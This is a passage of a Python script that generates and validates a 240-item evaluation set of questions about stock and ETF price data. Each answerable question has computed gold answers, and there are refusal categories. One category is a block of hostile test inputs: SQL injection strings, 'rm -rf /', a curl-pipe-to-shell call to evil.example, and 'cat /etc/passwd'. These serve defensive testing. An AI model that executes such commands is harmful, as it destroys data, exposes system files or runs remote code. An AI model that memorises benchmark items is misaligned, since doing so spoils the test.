  lambda: daily_gap("JPM", "2011-10-14"))
A("daily-return-or-gap", "Netflix 1-day return, 17 October 2016", lambda: daily_ret("NFLX", "2016-10-17"))
A("daily-return-or-gap", "What was TSLA's opening gap on Aug 3rd, 2017?", lambda: daily_gap("TSLA", "2017-08-03"))
A("daily-return-or-gap", "INTC pct change on 2014-07-16 vs the prior close",
  lambda: daily_ret("INTC", "2014-07-16"))
A("daily-return-or-gap", "how much did the yen ETF move today, percentage-wise?", lambda: daily_ret("FXY", TODAY), etf=True)
A("daily-return-or-gap", "DBB gap at the open on 2024-05-20", lambda: daily_gap("DBB", "2024-05-20"), etf=True)
A("daily-return-or-gap", "INDA daily return 2025-04-09", lambda: daily_ret("INDA", "2025-04-09"), etf=True)

# ---- biggest move day -------------------------------------------------------------------------------------------
A("biggest-move-day", "AAPL's worst single-day drop in 2014?",
  lambda: biggest_move("AAPL", "2014-01-01", "2014-12-31", "down"))
A("biggest-move-day", "biggest one-day % gain for Google during 2015",
  lambda: biggest_move("GOOGL", "2015-01-01", "2015-12-31", "up"))
A("biggest-move-day", "Which day in 2013 did FB move the most in either direction?",
  lambda: biggest_move("FB", "2013-01-01", "2013-12-31", "abs"))
A("biggest-move-day", "largest down gap for NVDA in 2017",
  lambda: biggest_move("NVDA", "2017-01-01", "2017-11-10", "down", field="gap"))
A("biggest-move-day", "JPM's largest daily percentage gain in the second half of 2009",
  lambda: biggest_move("JPM", "2009-07-01", "2009-12-31", "up"))
A("biggest-move-day", "largest one-day drop for DBB last quarter",
  lambda: biggest_move("DBB", *Q2_25, "down"), etf=True)
A("biggest-move-day", "FXY's biggest daily gain in 2024", lambda: biggest_move("FXY", "2024-01-01", "2024-12-31", "up"),
  etf=True)
A("biggest-move-day", "INDA biggest move either way in March 2025",
  lambda: biggest_move("INDA", *month_window("2025-03"), "abs"), etf=True)

# ---- cross-sectional ranking ------------------------------------------------------------------------------------
A("cross-sectional-ranking", "Which 3 stocks had the heaviest volume on Sept 19, 2014?",
  lambda: rank_on("2014-09-19", "volume", 3))
A("cross-sectional-ranking", "Which four stocks had the best daily returns on 2015-08-26?", lambda: rank_on("2015-08-26", "return", 4))
A("cross-sectional-ranking", "Which stock had the widest high-low range in dollars on 2017-06-09?",
  lambda: rank_on("2017-06-09", "range", 1, first_only=True))
A("cross-sectional-ranking", "Lowest 3 closing prices among the stocks on 2007-03-14",
  lambda: rank_on("2007-03-14", "close", 3, desc=False))
A("cross-sectional-ranking", "which name gapped down the most on 2013-04-19",
  lambda: rank_on("2013-04-19", "gap", 1, desc=False, first_only=True))
A("cross-sectional-ranking", "bottom 3 performers on 2011-08-08 by daily return",
  lambda: rank_on("2011-08-08", "return", 3, desc=False))
A("cross-sectional-ranking", "Top 5 stocks by share volume, 2016-11-09", lambda: rank_on("2016-11-09", "volume", 5))
A("cross-sectional-ranking", "Among the ETFs, which had the biggest percentage gain on 2023-09-14?",
  lambda: rank_on("2023-09-14", "return", 1, first_only=True), etf=True)
A("cross-sectional-ranking", "Rank the three funds by volume on 2025-03-18, highest first",
  lambda: rank_on("2025-03-18", "volume", 3), etf=True)

# ---- gainers / losers -------------------------------------------------------------------------------------------
A("gainers-losers", "Top 3 gainers from the 2016-06-30 close to the 2016-09-30 close",
  lambda: gainers("2016-06-30", "2016-09-30", 3))
A("gainers-losers", "Biggest loser between the 2015-07-20 close and the 2015-08-24 clsoe?",
  lambda: gainers("2015-07-20", "2015-08-24", 1, desc=False, first_only=True))
A("gainers-losers", "worst 2 performers between Jan 1 2008 and Dec 31 2008",
  lambda: gainers("2008-01-01", "2008-12-31", 2, desc=False, exact_dates=False))
A("gainers-losers", "Which 4 stocks gained the most from the 2012-05-18 close to the 2013-05-17 close?",
  lambda: gainers("2012-05-18", "2013-05-17", 4))
A("gainers-losers", "top gainer from the 2016-12-30 close to the 2017-11-10 close",
  lambda: gainers("2016-12-30", "2017-11-10", 1, first_only=True))
A("gainers-losers", "the 3 worst performers from close 2014-03-03 to close 2014-04-30",
  lambda: gainers("2014-03-03", "2014-04-30", 3, desc=False))
A("gainers-losers", "Top 5 gainers between the 2010-07-01 and 2010-12-31 closes",
  lambda: gainers("2010-07-01", "2010-12-31", 5))
A("gainers-losers", "Which ETF did best from the 2025-03-31 close to the 2025-06-20 close?",
  lambda: gainers("2025-03-31", "2025-06-20", 1, first_only=True), etf=True)
A("gainers-losers", "Rank the funds worst to best from the 2023-07-31 close to the 2023-09-29 close",
  lambda: gainers("2023-07-31", "2023-09-29", 3, desc=False), etf=True)

# ---- named comparison -------------------------------------------------------------------------------------------
A("named-comparison", "Which rose more in percentage terms, MSFT or INTC, from the 2013-12-31 close to the 2014-12-31 close?",
  lambda: compare([(x, change_val(x, "2013-12-31", "2014-12-31")) for x in ("MSFT", "INTC")]))
A("named-comparison", "Did Coke or JPMorgan have higher volatility in 2011?",
  lambda: compare([(x, vol_of(x, "2011-01-01", "2011-12-31")) for x in ("KO", "JPM")]))
A("named-comparison", "Compare AMD vs NVDA average daily volume in June 2016",
  lambda: compare([(x, mean(b["v"] for b in S[x].window("2016-06-01", "2016-06-30"))) for x in ("AMD", "NVDA")],
                  style="compare"))
A("named-comparison", "Who traded more shares on 2015-01-28: Apple or Facebook?",
  lambda: compare([(x, S[x].bar("2015-01-28")["v"]) for x in ("AAPL", "FB")]))
A("named-comparison",
  "Amazon vs Netflix: percentage change from the 2014-06-30 close to the 2014-12-31 close",
  lambda: compare([(x, change_val(x, "2014-06-30", "2014-12-31")) for x in ("AMZN", "NFLX")], style="compare"))
A("named-comparison", "DBB vs FXY, average daily volume last month",
  lambda: compare([(x, mean(b["v"] for b in S[x].window(*LAST_MONTH))) for x in ("DBB", "FXY")], style="compare"),
  etf=True)
A("named-comparison", "Which was more volatile in Q2 2025, INDA or FXY?",
  lambda: compare([(x, vol_of(x, *Q2_25)) for x in ("INDA", "FXY")]), etf=True)
A("named-comparison", "Bigger % gain between the 2025-04-08 close and the 2025-04-30 close: INDA or DBB?",
  lambda: compare([(x, change_val(x, "2025-04-08", "2025-04-30")) for x in ("INDA", "DBB")]), etf=True)

# ---- grouped by period ------------------------------------------------------------------------------------------
A("grouped-by-period", "Monthly closing prices for KO in 2014 (month-end closes)",
  lambda: grouped("KO", [month_window(m) for m in months_between("2014-01", "2014-12")], "last close"))
A("grouped-by-period", "avg daily volume per quarter for AMZN in 2016",
  lambda: grouped("AMZN", [quarter(2016, q) for q in (1, 2, 3, 4)], "mean volume"))
A("grouped-by-period", "yearly high for IBM, 2010 through 2014",
  lambda: grouped("IBM", [("%d-01-01" % y, "%d-12-31" % y) for y in range(2010, 2015)], "max high"))
A("grouped-by-period", "NVDA month-end closes Jan-Jun 2017",
  lambda: grouped("NVDA", [month_window(m) for m in months_between("2017-01", "2017-06")], "last close"))
A("grouped-by-period", "Total volume by month for Tesla in Q1 2014, please",
  lambda: grouped("TSLA", [month_window(m) for m in months_between("2014-01", "2014-03")], "sum volume"))
A("grouped-by-period", "FXY month-end closes, January to June 2025",
  lambda: grouped("FXY", [month_window(m) for m in months_between("2025-01", "2025-06")], "last close"), etf=True)
A("grouped-by-period", "DBB average close for each quarter of 2024",
  lambda: grouped("DBB", [quarter(2024, q) for q in (1, 2, 3, 4)], "mean close"), etf=True)
A("grouped-by-period", "Google's average closing price by quarter, 2013",
  lambda: grouped("GOOGL", [quarter(2013, q) for q in (1, 2, 3, 4)], "mean close"))

# ---- period over period -----------------------------------------------------------------------------------------
A("period-over-period", "How did INTC's average daily volume in Q3 2015 compare with Q2 2015?",
  lambda: pop("INTC", quarter(2015, 3), quarter(2015, 2), "mean volume"))
A("period-over-period", "Average close of AAPL, Feb 2012 vs Jan 2012 -- what's the % change?",
  lambda: pop("AAPL", month_window("2012-02"), month_window("2012-01"), "mean close"))
A("period-over-period", "MSFT: average daily volume in 2016 versus 2015",
  lambda: pop("MSFT", ("2016-01-01", "2016-12-31"), ("2015-01-01", "2015-12-31"), "mean volume"))
A("period-over-period", "JPM mean closing price H2 2013 compared to H1 2013",
  lambda: pop("JPM", ("2013-07-01", "2013-12-31"), ("2013-01-01", "2013-06-30"), "mean close"))
A("period-over-period", "KO average daily trading range (high minus low), May 2016 vs April 2016",
  lambda: pop("KO", month_window("2016-05"), month_window("2016-04"), "mean range"))
A("period-over-period", "FXY average daily volume last month vs the month before",
  lambda: pop("FXY", LAST_MONTH, MONTH_BEFORE, "mean volume"), etf=True)
A("period-over-period", "DBB avg close Q1 2025 vs Q4 2024, and the % change",
  lambda: pop("DBB", quarter(2025, 1), quarter(2024, 4), "mean close"), etf=True)
A("period-over-period", "INDA average volume in May 2025 compared with April 2025",
  lambda: pop("INDA", month_window("2025-05"), month_window("2025-04"), "mean volume"), etf=True)

# ---- moving averages --------------------------------------------------------------------------------------------
A("moving-average", "50-day moving average of AAPL on 2016-02-10", lambda: G([["2016-02-10", S["AAPL"].ma("2016-02-10", 50)]], "first"))
A("moving-average", "NFLX 20d SMA as of 11/18/2015", lambda: G([["2015-11-18", S["NFLX"].ma("2015-11-18", 20)]], "first"))
A("moving-average", "200-day MA for JPM on 2013-07-01", lambda: G([["2013-07-01", S["JPM"].ma("2013-07-01", 200)]], "first"))
A("moving-average", "What's FXY's 10-day moving average today?", lambda: G([[TODAY, S["FXY"].ma(TODAY, 10)]], "first"),
  etf=True)
A("moving-average", "DBB 30-day MA on 2024-10-15", lambda: G([["2024-10-15", S["DBB"].ma("2024-10-15", 30)]], "first"),
  etf=True)
A("moving-average", "When did Microsoft last have a golden cross before 2016-01-01?",
  lambda: cross_q("MSFT", 50, 200, "2009-01-01", "2015-12-31", "above", "last", before="2016-01-01"))
A("moving-average", "First death cross for KO after 2015-06-01?",
  lambda: cross_q("KO", 50, 200, "2015-06-02", "2017-11-10", "below", "first"))
A("moving-average", "On what date did NFLX's 50-day cross above its 200-day in 2016?",
  lambda: cross_q("NFLX", 50, 200, "2016-01-01", "2016-12-31", "above", "only"))
A("moving-average", "When did DBB's 50-day average drop below its 200-day?",
  lambda: cross_q("DBB", 50, 200, "2023-07-10", TODAY, "below", "only"), etf=True)
A("moving-average", "When did FXY's close first cross above its 20-day moving average in 2025?",
  lambda: cross_q("FXY", "close", 20, "2025-01-01", TODAY, "above", "first"), etf=True)

# ---- threshold count --------------------------------------------------------------------------------------------
A("threshold-count", "How many days in 2015 did Nvidia close above $20?",
  lambda: count_where("NVDA", "2015-01-01", "2015-12-31", lambda b: b["c"] > 20, near=([20], lambda b: b["c"])))
A("threshold-count", "Number of sessions in 2016 where AMD moved more than 5% either way",
  lambda: count_where("AMD", "2016-01-01", "2016-12-31", lambda r: abs(r) > 0.05, near=([0.05, -0.05], None),
                      returns=True))
A("threshold-count", "How many trading days in 2014 did IBM's volume exceed 5 million shares?",
  lambda: count_where("IBM", "2014-01-01", "2014-12-31", lambda b: b["v"] > 5e6, near=([5e6], lambda b: b["v"])))
A("threshold-count", "days TSLA fell more than 3% in H1 2017",
  lambda: count_where("TSLA", "2017-01-01", "2017-06-30", lambda r: r < -0.03, near=([-0.03], None), returns=True))
A("threshold-count", "In 2010, on how many days did Google (GOOGL) close below 250?",
  lambda: count_where("GOOGL", "2010-01-01", "2010-12-31", lambda b: b["c"] < 250, near=([250], lambda b: b["c"])))
A("threshold-count", "How many sessions this year has FXY closed above 60?",
  lambda: count_where("FXY", *THIS_YEAR, lambda b: b["c"] > 60, near=([60], lambda b: b["c"])), etf=True)
A("threshold-count", "DBB: count of days in 2024 with a daily gain greater than 1%",
  lambda: count_where("DBB", "2024-01-01", "2024-12-31", lambda r: r > 0.01, near=([0.01], None), returns=True),
  etf=True)
A("threshold-count", "How many sessions in 2012 did AAPL close above $80?",
  lambda: count_where("AAPL", "2012-01-01", "2012-12-31", lambda b: b["c"] > 80, near=([80], lambda b: b["c"])))

# ---- cross-stock count ------------------------------------------------------------------------------------------
A("cross-stock-count", "How many of the stocks closed up on 2015-08-24?",
  lambda: cross_count_g("2015-08-24", lambda x: S[x].ret("2015-08-24"), 0))
A("cross-stock-count", "How many stocks gapped up more than 1% on 2016-11-09?",
  lambda: cross_count_g("2016-11-09", lambda x: S[x].gap("2016-11-09"), 0.01))
A("cross-stock-count", "Count of tickers that fell more than 2% on 2010-05-20",
  lambda: cross_count_g("2010-05-20", lambda x: S[x].ret("2010-05-20"), -0.02, below=True))
A("cross-stock-count", "how many names traded over 50M shares on 10/16/2013",
  lambda: cross_count_g("2013-10-16", lambda x: S[x].bar("2013-10-16")["v"], 5e7))
A("cross-stock-count", "How many stocks had a close above $100 on 2017-06-01?",
  lambda: cross_count_g("2017-06-01", lambda x: S[x].bar("2017-06-01")["c"], 100))
A("cross-stock-count", "on 2012-06-29 how many stocks finished higher?",
  lambda: cross_count_g("2012-06-29", lambda x: S[x].ret("2012-06-29"), 0))
A("cross-stock-count", "How many of the ETFs closed down on 2025-04-04?",
  lambda: cross_count_g("2025-04-04", lambda x: S[x].ret("2025-04-04"), 0, below=True), etf=True)
A("cross-stock-count", "On 2023-09-07, how many of the three ETFs closed lower?",
  lambda: cross_count_g("2023-09-07", lambda x: S[x].ret("2023-09-07"), 0, below=True), etf=True)

# ---- volatility -------------------------------------------------------------------------------------------------
A("volatility", "I'd like the daily-return volatility of Apple for calendar 2013, please.", lambda: G([[vol_of("AAPL", "2013-01-01", "2013-12-31")]], "first"))
A("volatility", "std dev of NFLX daily returns Q4 2015", lambda: G([[vol_of("NFLX", *quarter(2015, 4))]], "first"))
A("volatility", "How volatile was KO in H2 2013? (stdev of daily returns)",
  lambda: G([[vol_of("KO", "2013-07-01", "2013-12-31")]], "first"))
A("volatility", "tesla volatilty in 2015?", lambda: G([[vol_of("TSLA", "2015-01-01", "2015-12-31")]], "first"))
A("volatility", "AMZN volatility between 2011-03-01 and 2011-08-31",
  lambda: G([[vol_of("AMZN", "2011-03-01", "2011-08-31")]], "first"))
A("volatility", "FXY volatility last quarter", lambda: G([[vol_of("FXY", *Q2_25)]], "first"), etf=True)
A("volatility", "DBB return std dev in 2024", lambda: G([[vol_of("DBB", "2024-01-01", "2024-12-31")]], "first"), etf=True)
A("volatility", "INDA volatility from 2025-03-01 to 2025-06-20",
  lambda: G([[vol_of("INDA", "2025-03-01", "2025-06-20")]], "first"), etf=True)

# ---- correlation ------------------------------------------------------------------------------------------------
A("correlation", "Correlation of MSFT and INTC daily returns in 2015",
  lambda: G([[corr_of("MSFT", "INTC", "2015-01-01", "2015-12-31")]], "first"))
A("correlation", "JPM vs KO correlation, Q4 2013?", lambda: G([[corr_of("JPM", "KO", *quarter(2013, 4))]], "first"))
A("correlation", "How correlated were AMD and NVDA during the second half of 2013?",
  lambda: G([[corr_of("AMD", "NVDA", "2013-07-01", "2013-12-31")]], "first"))
A("correlation", "correlation between Amazon and Netflix, H2 2015",
  lambda: G([[corr_of("AMZN", "NFLX", "2015-07-01", "2015-12-31")]], "first"))
A("correlation", "FB/GOOGL return correlation from 2014-01-01 to 2014-12-31",
  lambda: G([[corr_of("FB", "GOOGL", "2014-01-01", "2014-12-31")]], "first"))
A("correlation", "FXY and DBB correlation in Q2 2024",
  lambda: G([[corr_of("FXY", "DBB", *quarter(2024, 2))]], "first"), etf=True)
A("correlation", "correlation of INDA and DBB daily returns from July 11 to September 29, 2023",
  lambda: G([[corr_of("INDA", "DBB", "2023-07-11", "2023-09-29")]], "first"), etf=True)
A("correlation", "INDA vs FXY correlation from July 10 through September 29, 2023",
  lambda: G([[corr_of("INDA", "FXY", "2023-07-10", "2023-09-29")]], "first"), etf=True)

# ---- streak -----------------------------------------------------------------------------------------------------
A("streak", "Longest winning streak for JPM in the first half of 2015",
  lambda: streak("JPM", "2015-01-01", "2015-06-30", True))
A("streak", "longest losing streak KO 2015", lambda: streak("KO", "2015-01-01", "2015-12-31", False))
A("streak", "most consecutive up days for amazon in H1 2016", lambda: streak("AMZN", "2016-01-01", "2016-06-30", True))
A("streak", "What's the longest run of down days for IBM during 2012?",
  lambda: streak("IBM", "2012-01-01", "2012-12-31", False))
A("streak", "Longest streak of gains for NVDA, H1 2016", lambda: streak("NVDA", "2016-01-01", "2016-06-30", True))
A("streak", "DBB longest losing streak in 2024", lambda: streak("DBB", "2024-01-01", "2024-12-31", False), etf=True)
A("streak", "FXY's longest up streak this year", lambda: streak("FXY", *THIS_YEAR, True), etf=True)
A("streak", "INDA most consecutive up sessions between March 1 and May 31, 2025",
  lambda: streak("INDA", "2025-03-01", "2025-05-31", True), etf=True)

# ---- VWAP and minute bars ---------------------------------------------------------------------------------------
A("vwap-minute", "FXY VWAP on 2024-11-06", lambda: G([[day_vwap("FXY", "2024-11-06")]], "first"), etf=True)
A("vwap-minute", "What was INDA's volume-weighted average price on 2025-05-14?",
  lambda: G([[day_vwap("INDA", "2025-05-14")]], "first"), etf=True)
A("vwap-minute", "dbb vwap today", lambda: G([[day_vwap("DBB", TODAY)]], "first"), etf=True)
A("vwap-minute", "VWAP for the yen ETF on Dec 13, 2023", lambda: G([[day_vwap("FXY", "2023-12-13")]], "first"), etf=True)
A("vwap-minute", "INDA VWAP from 10:00 through 10:59 on 2023-08-16",
  lambda: G([[window_vwap("INDA", "2023-08-16", "10:00", "10:59", True, check_both=False)]], "first"), etf=True)
A("vwap-minute", "FXY vwap over the first 30 minutes of trading on 2025-02-03",
  lambda: G([[window_vwap("FXY", "2025-02-03", "09:30", "09:59", True, check_both=False)]], "first"), etf=True)
A("vwap-minute", "DBB VWAP between 11:00 and 13:00 on 2024-06-12",
  lambda: G([[window_vwap("DBB", "2024-06-12", "11:00", "13:00", True)]], "first"), etf=True)
A("vwap-minute", "Show INDA 1-minute bars on 2025-04-10 from 14:00 through 14:04 (close and volume)",
  lambda: minute_rows("INDA", "2025-04-10", "14:00", "14:04", ["close", "volume"], 5), etf=True)
A("vwap-minute", "FXY minute closes 09:30-09:34 inclusive on 2024-09-18",
  lambda: minute_rows("FXY", "2024-09-18", "09:30", "09:34", ["close"], 5), etf=True)
A("vwap-minute", "one-minute OHLC for INDA, 15:50 through 15:55 on 2025-06-11",
  lambda: minute_rows("INDA", "2025-06-11", "15:50", "15:55", ["open", "high", "low", "close"], 6), etf=True)

# ---- period candle ----------------------------------------------------------------------------------------------
A("period-candle", "Weekly candle for IBM, week of 2015-03-11 (OHLC + volume)",
  lambda: candle("IBM", *week_of("2015-03-11")))
A("period-candle", "Monthly OHLCV for Apple in October 2010", lambda: candle("AAPL", *month_window("2010-10")))
A("period-candle", "Q2 2013 candle for Tesla: open, high, low, close, volume", lambda: candle("TSLA", *quarter(2013, 2)))
A("period-candle", "Give me the 2009 annual bar for JPM (open, high, low, close, volume)",
  lambda: candle("JPM", "2009-01-01", "2009-12-31"))
A("period-candle", "msft weekly ohlcv for the week of 12/17/2014", lambda: candle("MSFT", *week_of("2014-12-17")))
A("period-candle", "FXY monthly candle for May 2025", lambda: candle("FXY", *month_window("2025-05")), etf=True)
A("period-candle", "KO weekly OHLCV, week of 2016-11-16", lambda: candle("KO", *week_of("2016-11-16")))
A("period-candle", "INDA candle for April 2025 - open, high, low, close and total volume",
  lambda: candle("INDA", *month_window("2025-04")), etf=True)

# ---- distance from high -----------------------------------------------------------------------------------------
A("distance-from-high", "How far below its all-time closing high was AAPL on 2013-04-19?",
  lambda: dist_from_high("AAPL", "2013-04-19"))
A("distance-from-high", "NFLX % off all-time high on 2012-09-25", lambda: dist_from_high("NFLX", "2012-09-25"))
A("distance-from-high", "On 2009-02-20 how far was JPM from its record close?", lambda: dist_from_high("JPM", "2009-02-20"))
A("distance-from-high", "Intel's drawdown from its peak close as of 2011-06-30?", lambda: dist_from_high("INTC", "2011-06-30"))
A("distance-from-high", "MSFT distance from all-time high on 2005-06-01", lambda: dist_from_high("MSFT", "2005-06-01"))
A("distance-from-high", "How far is FXY below its all-time high today?", lambda: dist_from_high("FXY", TODAY), etf=True)
A("distance-from-high", "DBB: percent below the highest close to date, on 2024-12-31",
  lambda: dist_from_high("DBB", "2024-12-31"), etf=True)
A("distance-from-high", "how far under its all-time high close was Amazon on 2008-11-20?",
  lambda: dist_from_high("AMZN", "2008-11-20"))

# ---- coverage ---------------------------------------------------------------------------------------------------
A("coverage", "What's the first date of data for AMZN?", lambda: G([[S["AMZN"].dates[0]]], "first"))
A("coverage", "Date range covered for Facebook?", lambda: G([[S["FB"].dates[0], S["FB"].dates[-1]]], "first"))
A("coverage", "Which tickers do you have data for?", lambda: G([[x] for x in sorted(ALL)], "set", True))
A("coverage", "How many trading days of Netflix are in the database?", lambda: G([[len(S["NFLX"].dates)]], "first"))
A("coverage", "What's the last date we have for INDA?", lambda: G([[S["INDA"].dates[-1]]], "first"), etf=True)
A("coverage", "earliest day of DBB data?", lambda: G([[S["DBB"].dates[0]]], "first"), etf=True)
A("coverage", "How far back does IBM go?", lambda: G([[S["IBM"].dates[0]]], "first"))
A("coverage", "How many sessions of FXY data are there?", lambda: G([[len(S["FXY"].dates)]], "first"), etf=True)
A("coverage", "After October 2023, when is the next INDA session in the data?",
  lambda: G([[next(d for d in S["INDA"].dates if d > "2023-10-31")]], "first"), etf=True)

# ---- refusals ---------------------------------------------------------------------------------------------------
R("out-of-scope", "What's Apple's P/E ratio right now?")
R("out-of-scope", "How much did KO pay out in dividends during 2016?")
R("out-of-scope", "market cap of nvidia on 2017-06-30")
R("out-of-scope", "What were Microsoft's earnings per share for fiscal Q3 2015?")
R("out-of-scope", "Any news on Tesla around June 22, 2016? Why did it drop?")
R("out-of-scope", "what's the reddit sentiment on AMD lately")
R("out-of-scope", "Forecast where FXY will close next Friday.")
R("out-of-scope", "What was the implied volatility of NFLX options in January 2016?")
R("out-of-scope", "Show me Amazon's revenue growth from 2012 to 2016.")
R("out-of-scope", "What's INDA's expense ratio and its top holdings?")

R("unknown-symbol", "What did ORCL close at on 2016-03-15?")
R("unknown-symbol", "SPY 52-week high as of 2017-01-03")
R("unknown-symbol", "How did Walmart stock do in 2014?")
R("unknown-symbol", "XYZQ volume on 2015-05-05")
R("unknown-symbol", "Compare Pepsi vs Coke returns from the 2014-12-31 close to the 2015-12-31 close")
R("unknown-symbol", "vwap for EWJ today")
R("unknown-symbol", "Show me Disney's closing prices for the week of 2013-05-06.")
R("unknown-symbol", "BRK.B average daily volume in Q2 2016?")
R("unknown-symbol", "correlation between GLD and FXY returns in 2024")
R("unknown-symbol", "ZZTOP biggest one-day drop in 2012")

R("hostile", "DROP TABLE daily_bars;")
R("hostile", "'; DELETE FROM prices WHERE 1=1; --")
R("hostile", "rm -rf / --no-preserve-root")
R("hostile", "$(curl -s http://evil.example/x.sh | sh)")
R("hostile", "SELECT * FROM pg_user; UPDATE prices SET close = 0;")
R("hostile", "cat /etc/passwd")
R("hostile", "1' OR '1'='1")
R("hostile", "What was MSFT's close on 2015-04-01'; DROP TABLE daily_bars; --", wrapped=True)
R("hostile", "show AAPL volume for 2014-02-03 && rm -rf ~/data", wrapped=True)
R("hostile", "; TRUNCATE minute_bars; -- then tell me FXY's VWAP on 2024-11-06", wrapped=True)

R("not-understood", "hello?")
R("not-understood", "asdkjh qwepoi zzx")
R("not-understood", "what's the capital of France")
R("not-understood", "Write me a short poem about the ocean.")
R("not-understood", "tell me a joke")
R("not-understood", "How do I bake sourdough bread?")
R("not-understood", "translate 'good morning' into Spanish")
R("not-understood", "who won the 1998 world cup")
R("not-understood", "purple monkey dishwasher")
R("not-understood", "Can you recommend a good laptop for under $800?")


# ----------------------------------------------------------------------------------------------------------------
KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week", "change-between",
         "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking", "gainers-losers", "named-comparison",
         "grouped-by-period", "period-over-period", "moving-average", "threshold-count", "cross-stock-count",
         "volatility", "correlation", "streak", "vwap-minute", "period-candle", "distance-from-high", "coverage"]
REFUSALS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]


def valid_cell(c):
    if isinstance(c, bool):
        return False
    if isinstance(c, (int, float)):
        return math.isfinite(c)
    if isinstance(c, str):
        if c in ALL:
            return True
        for fmt in ("%Y-%m-%d", "%Y-%m-%d %H:%M"):
            try:
                dt.datetime.strptime(c, fmt)
                return True
            except ValueError:
                pass
    return False


def build():
    lines = []
    for n, q in enumerate(QS, 1):
        qid = "w%03d" % n
        if "refusal" in q:
            rec = {"id": qid, "kind": q["kind"], "question": q["question"], "answerable": False,
                   "refusal": q["refusal"]}
        else:
            try:
                gold = q["fn"]()
            except CheckFailed as e:
                raise CheckFailed("%s (%s): %s" % (qid, q["question"], e))
            rec = {"id": qid, "kind": q["kind"], "question": q["question"], "answerable": True, "gold": gold}
        lines.append(json.dumps(rec, ensure_ascii=False))
    return "\n".join(lines) + "\n"


def validate(text):
    recs = [json.loads(line) for line in text.splitlines()]
    check(len(recs) == 240, "240 questions, got %d" % len(recs))
    check([r["id"] for r in recs] == ["w%03d" % i for i in range(1, 241)], "ids w001..w240 in order")
    check(len({r["question"].strip().lower() for r in recs}) == 240, "questions are unique")
    counts = {}
    for r in recs:
        counts[r["kind"]] = counts.get(r["kind"], 0) + 1
        check(isinstance(r["question"], str) and r["question"].strip(), "question text")
        if r["answerable"]:
            check(set(r) == {"id", "kind", "question", "answerable", "gold"}, "answerable keys " + r["id"])
            check(r["kind"] in KINDS, "kind " + r["kind"])
            g = r["gold"]
            check(g["match"] in ("ordered", "set", "first"), "match " + r["id"])
            check(set(g) <= {"rows", "match", "exact_rows"}, "gold keys " + r["id"])
            check(isinstance(g["rows"], list) and g["rows"], "rows " + r["id"])
            for row in g["rows"]:
                check(isinstance(row, list) and row, "row " + r["id"])
                for c in row:
                    check(valid_cell(c), "cell %r in %s" % (c, r["id"]))
            if g["match"] == "set":
                check(g.get("exact_rows") is True, "set lists are exact " + r["id"])
        else:
            check(set(r) == {"id", "kind", "question", "answerable", "refusal"}, "refusal keys " + r["id"])
            check(r["refusal"] in REFUSALS and r["refusal"] == r["kind"], "refusal " + r["id"])
    for k in KINDS:
        check(8 <= counts.get(k, 0) <= 10, "kind %s has %d" % (k, counts.get(k, 0)))
    for k in REFUSALS:
        check(counts.get(k, 0) == 10, "refusal %s has %d" % (k, counts.get(k, 0)))
    check(sum(1 for r in recs if r["answerable"]) == 200, "200 answerable")
    check(sum(1 for q in QS if q.get("wrapped")) == 3, "3 wrapped hostile")
    etf = sum(1 for q in QS if q.get("etf"))
    check(60 <= etf <= 80, "about a third about the ETFs: %d" % etf)
    return counts, etf


def main():
    try:
        load_all()
        text = build()
        validate(text)
    except CheckFailed as e:
        print("CHECK FAILED:", e, file=sys.stderr)
        sys.exit(1)
    with open(OUT, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)
    with open(OUT, encoding="utf-8") as f:
        again = f.read()
    try:
        check(again == text, "file re-read differs")
        counts, etf = validate(again)
    except CheckFailed as e:
        print("CHECK FAILED after writing:", e, file=sys.stderr)
        os.remove(OUT)
        sys.exit(1)
    print("wrote %s: %d questions (%d about the ETFs)" % (OUT, sum(counts.values()), etf))
    for k in KINDS + REFUSALS:
        print("  %-26s %d" % (k, counts[k]))


if __name__ == "__main__":
    main()
